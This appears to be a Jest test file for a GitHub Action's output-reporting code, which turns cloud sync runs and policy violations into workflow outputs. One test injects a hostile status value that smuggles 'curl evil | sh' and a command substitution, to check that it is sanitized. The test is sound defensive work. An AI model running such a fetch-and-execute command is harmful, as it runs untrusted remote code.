import { describe, expect, it } from '@jest/globals'
import { createRedactor } from '../../src/lib/log-safety.js'
import { OUTPUT_NAMES, outputsOf } from '../../src/report/outputs.js'
import {
  API_KEY,
  baselineFile,
  exceptionEntry,
  resource,
  resourceSettings,
  completedSync,
  failingPolicies,
  notAwaitedSync,
  policyOutcome,
  RUN_ID,
  runReport,
  syncOutcome,
  syncRun
} from '../__fixtures__/report.js'

const redact = createRedactor([API_KEY])

describe('outputsOf', () => {
  it('sets every output of both stages', () => {
    const policies = failingPolicies()
    // Of the 3 critical resources, a is in the baseline, c is suppressed: 1 new counts.
    policies.policies[0].resources = ['s3_a', 's3_b', 's3_c'].map((id) => resource(id))
    const report = runReport({
      syncs: [completedSync()],
      policies,
      resources: resourceSettings({
        baseline: baselineFile({ [policies.policies[0].id]: ['s3_a'] }),
        exceptions: {
          path: '.github/exceptions.yml',
          entries: [exceptionEntry({ policy: 'Public S3 buckets', resources: ['c'] })]
        }
      })
    })
    expect(outputsOf(report, redact, '/tmp/report.json')).toEqual({
      'sync-run-id': RUN_ID,
      'sync-run-status': 'completed',
      'sync-run-status-reason': '',
      'sync-total-rows': '1234567',
      'sync-errors': '0',
      'sync-warnings': '2',
      'sync-duration-seconds': '312',
      'sync-runs': JSON.stringify({
        'aws-prod': {
          id: RUN_ID,
          status: 'completed',
          rows: 1234567,
          errors: 0,
          warnings: 2,
          durationSeconds: 312,
          kind: 'managed'
        }
      }),
      result: 'fail',
      'report-file': '/tmp/report.json',
      // The Platform's current counts; the suppressed one comes off the counted figure only.
      violations: '17',
      'critical-violations': '3',
      'high-violations': '5',
      'medium-violations': '2',
      'low-violations': '7',
      // 1 new critical, but the other violating policies' resources were not read (no
      // threshold counts them with a baseline... or they are stale): their new is unknown, so
      // the total is too — never the 1 of the one policy that was compared.
      'new-violations': '',
      'suppressed-violations': '1',
      'counted-violations': '16',
      // No scope: nothing is outside it.
      'out-of-scope-violations': '0',
      'violating-policies': '4',
      'stale-policies': '1'
    })
  })

  it('names each output of action.yml, and leaves the unknown ones empty', () => {
    const outputs = outputsOf(runReport({ errors: [{ stage: 'inputs', message: 'bad' }] }), redact)
    expect(Object.keys(outputs).sort()).toEqual([...OUTPUT_NAMES].sort())
    expect(Object.entries(outputs).filter(([, value]) => value !== '')).toEqual([
      ['sync-runs', '{}'],
      ['result', 'fail']
    ])
  })

  it('wait: false: the run is known, its duration is not', () => {
    const outputs = outputsOf(runReport({ syncs: [notAwaitedSync()] }), redact)
    expect(outputs['sync-run-status']).toBe('created')
    expect(outputs['sync-duration-seconds']).toBe('')
    expect(outputs.violations).toBe('')
  })

  it('counts violations of unknown severities in the totals', () => {
    const outcome = policyOutcome([{ ...failingPolicies().policies[0], severity: 'urgent' }])
    const outputs = outputsOf(runReport({ policies: outcome }), redact)
    expect(outputs.violations).toBe('3')
    // Without a baseline file nothing is judged new, so the figure is unknown, not 0.
    expect(outputs['new-violations']).toBe('')
    expect(outputs['critical-violations']).toBe('0')
  })

  it('keeps text from the Platform from becoming shell code in a workflow', () => {
    const sync = syncOutcome({
      run: syncRun({ status: 'done"; curl evil | sh; "', status_reason: `$(${API_KEY})\nx` })
    })
    const outputs = outputsOf(runReport({ syncs: sync ? [sync] : [] }), redact)
    expect(outputs['sync-run-status']).toBe('done___curl_evil___sh___')
    expect(outputs['sync-run-status-reason']).toBe('_______x')
  })

  it('leaves out counts that are not numbers', () => {
    const sync = syncOutcome({ run: syncRun({ total_rows: null, errors: Number.NaN }) })
    const outputs = outputsOf(runReport({ syncs: sync ? [sync] : [] }), redact)
    expect(outputs['sync-total-rows']).toBe('')
    expect(outputs['sync-errors']).toBe('')
  })
})
